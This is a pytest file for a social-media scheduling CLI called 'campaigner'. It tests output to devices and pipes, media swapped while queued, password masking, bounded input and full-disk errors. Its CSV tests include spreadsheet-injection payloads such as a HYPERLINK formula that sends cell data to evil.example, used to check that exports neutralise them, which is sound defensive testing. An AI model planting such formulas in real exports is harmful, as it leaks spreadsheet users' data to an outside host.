"""Files and settings that are not what campaigner expects (issue 14, points 5–8): devices and
streams as output files, a media file that changes while it is queued, spreadsheet formulas in
exported text, passwords in database URLs, names with a trailing newline, and the ordinary
trouble of a machine (a full disk, another user's secrets file, /dev/zero as input) — each one
``Error:`` line that says what to do, with the database unchanged."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import resource
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from sqlalchemy import text

from campaigner.report_render.csvfile import COLUMNS
from tests.conftest import PG_URL
from tests.core.test_posts_cli import PNG

ROOT = os.geteuid() == 0


def run_campaigner(*args: str, limit_memory: int | None = None, **kw) -> subprocess.CompletedProcess:
    """The real command in its own process (the environment is the test's: ``home`` and the
    database URL), with its address space bounded when ``limit_memory`` is given."""

    def bound() -> None:
        if limit_memory:
            resource.setrlimit(resource.RLIMIT_AS, (limit_memory, limit_memory))

    return subprocess.run([sys.executable, "-m", "campaigner", *args], capture_output=True, timeout=120,
                          preexec_fn=bound, **kw)


def dump(engine) -> list[tuple]:
    """Every row of every campaigner table: what "the database is unchanged" compares."""
    from campaigner.models import Base

    with engine.connect() as c:
        return [(t.name, tuple(row)) for t in Base.metadata.sorted_tables
                for row in c.execute(t.select().order_by(*t.primary_key.columns))]


# --- point 5: devices and streams are written in place; '-' is standard output ------------------

def test_a_device_stays_a_device(cli, tmp_path):
    """As root, `--out /dev/null` renamed a temporary file over the device: /dev/null became a plain
    file. A private copy of /dev/null (same major/minor) shows it without touching the real one."""
    null = tmp_path / "null"
    try:
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("making a device node needs root")
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "Tolak Tapera!", "--to", "sb", "--at", "2026-12-01 09:00")
    assert cli.ok("post", "export", str(null)).stderr == f"Wrote 1 row to {null}.\n"
    assert stat.S_ISCHR(null.lstat().st_mode)
    assert cli.ok("report", "weekly", "--out", str(null)).stderr.startswith("Wrote the 2026-W48 report (text)")
    assert stat.S_ISCHR(null.lstat().st_mode) and null.read_bytes() == b""  # still /dev/null: reads nothing
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".null")) == []  # no temporary left


def test_a_named_pipe_receives_the_file(cli, tmp_path):
    """A pipe is written in place (a reader gets the CSV); it used to be replaced by a plain file."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader waits: the writer's open succeeds
    try:
        cli.ok("account", "add", "sandbox", "sb")
        cli.ok("post", "add", "=1+1 bukan rumus", "--to", "sb", "--at", "2026-12-01 09:00")
        cli.ok("post", "export", str(fifo))
        received = os.read(reader, 1 << 16)
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert received.decode("utf-8-sig").splitlines() == [
        "date,time,accounts,text,link,campaign,media", "2026-12-01,09:00,sb,'=1+1 bukan rumus,,,"]


def test_a_link_to_standard_output_writes_to_it(db_url, home, tmp_path):
    """`--out /dev/stdout` (here a link of our own to /proc/self/fd/1, so a failing old version
    cannot replace the system's /dev/stdout) writes to the command's standard output."""
    out = tmp_path / "stdout"
    out.symlink_to("/proc/self/fd/1")
    env = {**os.environ, "CAMPAIGNER_DATABASE_URL": db_url}
    r = run_campaigner("report", "weekly", "--week", "2026-W48", "--format", "csv", "--out", str(out), env=env)
    assert r.returncode == 0, r.stderr
    assert r.stdout.decode().splitlines() == [",".join(COLUMNS)]  # the report, and nothing else
    assert r.stderr.decode() == f"Wrote the 2026-W48 report (csv) to {out}\n"  # the note goes beside it
    assert out.is_symlink() and os.readlink(out) == "/proc/self/fd/1"


def test_dash_is_standard_output(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "Upah layak", "--to", "sb", "--at", "2026-12-01 09:00")
    r = cli.ok("report", "weekly", "--format", "csv", "--out", "-")
    assert r.stdout.startswith("delivery_id,post_id,status,")
    # on standard output the export has no BOM (a pipe to another program); a file has one
    assert cli.ok("post", "export", "-").stdout.startswith("date,time,accounts,")
    assert not (tmp_path / "-").exists()


def test_a_symlinked_file_is_replaced_behind_its_link(cli, tmp_path):
    """A link keeps pointing at its file, which is replaced whole and keeps its mode."""
    real = tmp_path / "real.csv"
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "calendar.csv"
    link.symlink_to(real)
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "Upah layak", "--to", "sb", "--at", "2026-12-01 09:00")
    cli.ok("post", "export", str(link))
    assert link.is_symlink() and link.resolve() == real
    assert real.read_text(encoding="utf-8-sig").splitlines()[1] == "2026-12-01,09:00,sb,Upah layak,,,"
    assert stat.S_IMODE(real.stat().st_mode) == 0o640


# --- point 6: a media file is read once; what is checked is what is stored ----------------------

class _Changing:
    """Makes ``path`` hold ``first`` at its first opening and the other content at every later one
    (alternately): a file swapped while campaigner reads it. An audit hook (which cannot be removed)
    sees every ``open`` of the process before it happens."""

    active: "_Changing | None" = None
    installed = False

    def __init__(self, path: Path, first: bytes, second: bytes):
        self.path, self.contents, self.opens, self.busy = os.fspath(path), (first, second), 0, False

    @classmethod
    def hook(cls, event: str, args: tuple) -> None:
        self = cls.active
        if event != "open" or self is None or self.busy or not isinstance(args[0], (str, os.PathLike)):
            return
        if os.fspath(args[0]) != self.path:
            return
        self.busy = True
        try:
            Path(self.path).write_bytes(self.contents[self.opens % 2])
        finally:
            self.busy = False
        self.opens += 1

    def __enter__(self) -> "_Changing":
        if not _Changing.installed:
            sys.addaudithook(_Changing.hook)
            _Changing.installed = True
        _Changing.active = self
        return self

    def __exit__(self, *exc) -> None:
        _Changing.active = None


def test_a_file_changed_while_it_is_queued_is_stored_as_it_was_checked(cli, engine, home, tmp_path):
    image = tmp_path / "poster.png"
    first = PNG + b"first" * 10
    second = PNG + b"second, swapped in" * 100
    image.write_bytes(first)
    cli.ok("account", "add", "sandbox", "sb")
    with _Changing(image, first, second) as changing:
        cli.ok("post", "add", "Poster aksi", "--to", "sb", "--media", str(image), "--at", "2026-12-01 09:00")
    with engine.connect() as c:
        stored_path, sha, size = c.execute(text("SELECT stored_path, sha256, size_bytes FROM post_media")).one()
    stored = (home / "data" / "media" / stored_path).read_bytes()
    # the file is stored under its own hash (a later post of the same image finds the right file)
    assert Path(stored_path).name == f"{hashlib.sha256(stored).hexdigest()}.png" and sha == Path(stored_path).stem
    assert stored == first and size == len(first) and changing.opens == 1  # what was read once, and checked
    # nothing else is left in the media folder (the staging copy was moved, not copied)
    media = home / "data" / "media"
    assert sorted(str(p.relative_to(media)) for p in media.rglob("*") if p.is_file()) == [stored_path]


def test_an_edit_keeps_the_stored_media_as_it_is(cli, engine, home, tmp_path):
    image = tmp_path / "poster.png"
    image.write_bytes(PNG)
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "Poster", "--to", "sb", "--media", str(image), "--at", "2026-12-01 09:00")
    image.write_bytes(PNG + b"changed later")  # the queued post does not follow its original
    with engine.connect() as c:
        before = c.execute(text("SELECT stored_path, sha256, size_bytes FROM post_media")).all()
    cli.ok("post", "edit", "1", "Poster aksi")
    with engine.connect() as c:
        assert c.execute(text("SELECT stored_path, sha256, size_bytes FROM post_media")).all() == before
    media = home / "data" / "media"
    assert [str(p.relative_to(media)) for p in media.rglob("*") if p.is_file()] == [before[0][0]]
    assert (media / before[0][0]).read_bytes() == PNG


def test_media_that_is_a_device_or_refused_leaves_nothing_behind(cli, home, tmp_path):
    cli.ok("account", "add", "bluesky", "kspi-b", "--handle", "kspi.bsky.social")
    r = cli("post", "add", "Video", "--to", "kspi-b", "--media", "/dev/zero", "--at", "2026-12-01 09:00")
    assert r.stderr == ("Error: cannot attach /dev/zero: not a file — give the path of an image or video file\n")
    big = tmp_path / "big.gif"  # an animation is sent as it is, so it can be too big (a photo is made to fit)
    big.write_bytes(b"GIF89a" + bytes(2_000_001))
    r = cli("post", "add", "Besar", "--to", "kspi-b", "--media", str(big), "--at", "2026-12-01 09:00")
    assert r.exit_code == 1 and "too big" in r.stderr
    media = home / "data" / "media"
    assert [p for p in media.rglob("*")] == []
    assert json.loads(cli.ok("post", "list", "--json").stdout) == []


# --- point 7: one formula rule for every CSV; the import undoes exactly what the export did -----

TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "@serikat_buruh upah dipotong lagi",  # a mention
    "- upah layak\n- jaminan kerja",  # a list
    "+62 812 3456 7890 hotline",
    "'Upah layak' kata menteri",  # a text that really starts with '
    "'=sudah dikutip",  # ' then a formula character: it keeps its '
    "''dua kutip",
    "Biasa saja",
]


def test_export_neutralises_formulas_and_imports_back_the_same_text(cli, tmp_path):
    cli.ok("account", "add", "sandbox", "sb")
    for i, body in enumerate(TEXTS):
        cli.ok("post", "add", "--to", "sb", "--at", f"2026-12-0{i + 1} 09:00", "--", body)
    out = tmp_path / "export.csv"
    cli.ok("post", "export", str(out))
    cells = [row["text"] for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline=""))]
    assert cells == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "'@serikat_buruh upah dipotong lagi",
        "'- upah layak\n- jaminan kerja",
        "'+62 812 3456 7890 hotline",
        "'Upah layak' kata menteri",
        "''=sudah dikutip",
        "'''dua kutip",
        "Biasa saja",
    ]
    assert not any(c[:1] in "=+-@\t\r" for c in cells)
    fresh = tmp_path / "fresh.db"
    cli.ok("--db", f"sqlite:///{fresh}", "init")
    cli.ok("--db", f"sqlite:///{fresh}", "account", "add", "sandbox", "sb")
    cli.ok("--db", f"sqlite:///{fresh}", "post", "import", str(out))
    back = json.loads(cli.ok("--db", f"sqlite:///{fresh}", "post", "list", "--json").stdout)
    assert [p["text"] for p in back] == TEXTS


def test_export_to_a_file_has_the_bom_its_docstring_promises(cli, tmp_path):
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "Upah layak — Rp 5,3 juta 💪", "--to", "sb", "--at", "2026-12-01 09:00")
    out = tmp_path / "export.csv"
    cli.ok("post", "export", str(out))
    assert out.read_bytes().startswith(b"\xef\xbb\xbfdate,time,accounts,text")


def test_the_report_csv_follows_the_same_rule(cli, engine, clock):
    """Every cell of the report CSV, not only the text: here a URL the platform answered."""
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "--to", "sb", "--at", "2026-11-30 09:00", "--", "@menaker upah layak")
    with engine.begin() as c:
        c.execute(text("UPDATE deliveries SET status = 'published', published_at = due_at, "
                       "remote_url = '=HYPERLINK(\"http://evil.example/\",\"Klik\")'"))
    clock.advance(days=7)
    rows = list(csv.DictReader(io.StringIO(cli.ok("report", "weekly", "--format", "csv").stdout, newline="")))
    assert [(r["url"], r["text"]) for r in rows] == [
        ('\'=HYPERLINK("http://evil.example/","Klik")', "'@menaker upah layak")]


# --- point 8: passwords, names, and the machine's ordinary trouble --------------------------------

def test_a_password_in_the_url_query_is_masked(cli):
    url = "postgresql+psycopg://kspi@127.0.0.1:1/campaigner?password=S3cr3t-pw&sslmode=disable&sslpassword=K3y"
    r = cli.ok("--db", url, "config")
    assert r.stdout.splitlines()[0] == ("database_url  postgresql+psycopg://kspi@127.0.0.1:1/campaigner?password=***"
                                        "&sslmode=disable&sslpassword=***  (flag)")
    r = cli("--db", url, "account", "list")
    assert r.exit_code == 1 and r.stderr.startswith(
        "Error: cannot open the database postgresql+psycopg://kspi@127.0.0.1:1/campaigner?password=***&sslmode=disable"
        "&sslpassword=***: ")
    assert r.stderr.count("\n") == 1
    assert "S3cr3t" not in r.output + cli.ok("--db", url, "config", "--json").stdout and "K3y" not in r.output


def test_names_and_slugs_with_a_trailing_newline_are_refused(cli, engine):
    cli.ok("account", "add", "sandbox", "dup")
    cli.ok("campaign", "add", "upah", "--name", "Upah")
    before = dump(engine)
    r = cli("account", "add", "sandbox", "dup\n")
    assert r.stderr == ("Error: account name 'dup\\n' is not allowed — use lower-case letters, digits, '-' and '_' "
                        "(e.g. kspi-x), up to 64 characters\n")
    r = cli("campaign", "add", "upah\n", "--name", "Upah lagi")
    assert r.stderr == ("Error: campaign slug 'upah\\n' is not allowed — use lower-case letters, digits and '-', "
                        "e.g. upah-2027\n")
    assert dump(engine) == before


def test_a_very_long_time_zone_is_one_error(cli):
    r = cli("--timezone", "A" * 5000, "account", "list")
    assert r.exit_code == 1
    assert r.stderr == ("Error: unknown time zone 'AAAAAAAAAAAAAAAAAAAA'… (5,000 characters) (flag) — use WIB, WITA, "
                        "WIT or an IANA zone name such as Asia/Jakarta, Asia/Makassar or Asia/Jayapura\n")
    r = cli("account", "add", "sandbox", "sb", "--timezone", "Asia/" + "J" * 300)
    assert r.stderr.startswith("Error: unknown time zone 'Asia/JJJJJJJJJJJJJJJ'… (305 characters) for --timezone — ")


def test_a_secrets_entry_that_is_not_a_table_is_one_error(cli, home):
    cli.ok("account", "add", "x", "kspi-x")
    secrets = home / "config" / "secrets.toml"
    secrets.write_text('[accounts]\nkspi-x = "AAAA-the-token"\n')
    secrets.chmod(0o600)
    r = cli("account", "show", "kspi-x")
    assert r.stderr == (f"Error: the entry for account kspi-x in the secrets file {secrets} is not a table — write it "
                        "as [accounts.kspi-x] with FIELD = \"…\" lines below it (or run `campaigner account set-secret "
                        "kspi-x FIELD`)\n")
    secrets.write_text('accounts = "AAAA-the-token"\n')
    r = cli("account", "show", "kspi-x")
    assert r.stderr == (f"Error: 'accounts' in the secrets file {secrets} is not a table — write each account as its own "
                        "table: [accounts.NAME] with FIELD = \"…\" lines below it\n")
    assert "AAAA" not in r.output


@pytest.mark.skipif(not ROOT, reason="reading as another user needs root (seteuid)")
@pytest.mark.skipif(bool(PG_URL), reason="the SQLite file is shared with another user; PostgreSQL is not a file")
def test_a_secrets_file_of_another_user_is_one_error(cli, db_url):
    """The secrets file belongs to root (mode 0600); the command runs as nobody."""
    import pwd

    nobody = pwd.getpwnam("nobody")
    shared = Path(tempfile.mkdtemp(prefix="campaigner-shared-", dir="/tmp"))
    try:
        shared.chmod(0o777)
        database = shared / "campaigner.db"
        shutil.copyfile(db_url.removeprefix("sqlite:///"), database)
        database.chmod(0o666)
        (shared / "config.toml").write_text("")
        (shared / "config.toml").chmod(0o644)
        secrets = shared / "secrets.toml"
        env = {"CAMPAIGNER_DATABASE_URL": f"sqlite:///{database}", "CAMPAIGNER_CONFIG": str(shared / "config.toml"),
               "CAMPAIGNER_HOME": str(shared / "data"), "CAMPAIGNER_SECRETS_FILE": str(secrets)}
        cli.ok("account", "add", "x", "kspi-x", env=env)
        cli.ok("account", "set-secret", "kspi-x", "access_token", input="the-token\n", env=env)
        cli.ok("account", "show", "kspi-x", env=env)  # as root: every module it needs is imported now
        os.seteuid(nobody.pw_uid)
        try:
            r = cli("account", "show", "kspi-x", env=env)
        finally:
            os.seteuid(0)
        assert r.stderr == (f"Error: cannot read the secrets file {secrets}: it belongs to user root, not to nobody — "
                            f"run campaigner as root, or give the file to nobody (as root: chown nobody {secrets})\n")
    finally:
        shutil.rmtree(shared)


@pytest.mark.parametrize("source", ["/dev/zero", "sparse"])
def test_a_text_file_that_never_ends_is_refused_at_once(db_url, home, tmp_path, source):
    """--file /dev/zero or a 3 GB file used to be read whole (until memory ran out); the command
    runs in its own process with 1 GB of address space, so a failure cannot take the machine."""
    if source == "sparse":
        source = str(tmp_path / "huge.txt")
        with open(source, "wb") as f:
            f.truncate(3 << 30)
    env = {**os.environ, "CAMPAIGNER_DATABASE_URL": db_url}
    r = run_campaigner("post", "add", "--file", source, "--to", "sb", "--now", env=env, limit_memory=1 << 30)
    assert r.returncode == 1
    assert r.stderr.decode() == (f"Error: file {source} holds more than 1,000,000 bytes, too much for a post's text — "
                                 "give only the post's text, at most 1 MB\n")


def test_standard_input_is_bounded_too(cli):
    r = cli("post", "add", "--file", "-", "--to", "sb", "--now", input="a" * 1_000_001)
    assert r.stderr == ("Error: standard input holds more than 1,000,000 bytes, too much for a post's text — give only "
                        "the post's text, at most 1 MB\n")


# --- a full disk ----------------------------------------------------------------------------------

@pytest.fixture
def small_disk(tmp_path):
    """A 4 MB tmpfs of our own (root only), unmounted afterwards."""
    if not ROOT:
        pytest.skip("mounting a small file system needs root")
    folder = tmp_path / "small"
    folder.mkdir()
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)], capture_output=True)
    if r.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {r.stderr.decode().strip()}")
    yield folder
    subprocess.run(["umount", "-l", str(folder)], check=True)


def fill(folder: Path) -> Path:
    """Fill the disk of ``folder`` to the last byte; returns the filler (remove it to free space)."""
    filler = folder / "filler"
    with open(filler, "wb", buffering=0) as f:
        for size in (1 << 20, 1 << 12, 1):
            try:
                while True:
                    f.write(bytes(size))
            except OSError as exc:
                assert exc.errno == 28  # ENOSPC
    return filler


def test_a_full_disk_under_the_media_folder(cli, engine, small_disk, tmp_path):
    data = small_disk / "data"
    (data / "media").mkdir(parents=True)
    cli.env["CAMPAIGNER_HOME"] = str(data)
    cli.ok("account", "add", "sandbox", "sb")
    image = tmp_path / "poster.png"
    image.write_bytes(PNG + bytes(100_000))
    before = dump(engine)
    fill(small_disk)
    r = cli("post", "add", "Poster", "--to", "sb", "--media", str(image), "--at", "2026-12-01 09:00")
    assert r.exit_code == 1
    assert r.stderr == (f"Error: cannot copy {image} into the media folder {data / 'media'}: the disk is full (No space "
                        "left on device) — free some space on that disk and run again (or set CAMPAIGNER_HOME to a "
                        "folder on a disk with room)\n")
    assert dump(engine) == before
    assert list((data / "media").iterdir()) == []  # the staging folder is gone


def test_a_full_disk_under_the_reports_folder(cli, engine, small_disk):
    data = small_disk / "data"
    (data / "reports").mkdir(parents=True)
    cli.env["CAMPAIGNER_HOME"] = str(data)
    cli.ok("account", "add", "sandbox", "sb")
    fill(small_disk)
    r = cli("report", "deliver")
    assert r.exit_code == 1
    assert r.stderr == (f"Error: cannot write {data / 'reports' / 'weekly-2026-W48.html'}: the disk is full (No space "
                        "left on device) — free some space on that disk and run again\n")
    assert list((data / "reports").iterdir()) == []


@pytest.mark.skipif(bool(PG_URL), reason="the database file itself is on the full disk (SQLite)")
def test_a_full_disk_under_the_database(cli, db_url, small_disk, home):
    """post add, publish and report deliver with the database's disk full: one line each, and not a
    row changed. The test keeps a connection open so SQLite's shared-memory file stays allocated
    (as it is while any worker runs); the command's own writes then find no room."""
    from campaigner.db import make_engine

    database = small_disk / "campaigner.db"
    shutil.copyfile(db_url.removeprefix("sqlite:///"), database)
    cli.env["CAMPAIGNER_DATABASE_URL"] = url = f"sqlite:///{database}"
    cli.ok("account", "add", "sandbox", "sb")
    cli.ok("post", "add", "Due now", "--to", "sb", "--at", "2026-11-30 08:00")
    keeper = sqlite3.connect(database)
    engine = make_engine(url)
    try:
        keeper.execute("SELECT count(*) FROM posts").fetchall()
        before = dump(engine)
        filler = fill(small_disk)
        full = ("Error: the database's disk is full (SQLite: database or disk is full) — free some space on the disk "
                "that holds the database and run again\n")
        for args in (("post", "add", "Satu lagi " * 400, "--to", "sb", "--at", "2026-12-01 09:00"), ("publish",),
                     ("report", "deliver")):
            r = cli(*args)
            assert (r.exit_code, r.stderr) == (1, full), args
        filler.unlink()
        assert dump(engine) == before
    finally:
        engine.dispose()
        keeper.close()


def test_a_very_long_time_zone_in_indonesian_groups_its_length_with_a_point(cli):
    r = cli("--timezone", "A" * 5000, "account", "list", env={"CAMPAIGNER_LANG": "id"})
    assert r.exit_code == 1
    assert r.stderr.startswith("Kesalahan: zona waktu 'AAAAAAAAAAAAAAAAAAAA'… (5.000 karakter) tidak dikenal (flag) — ")
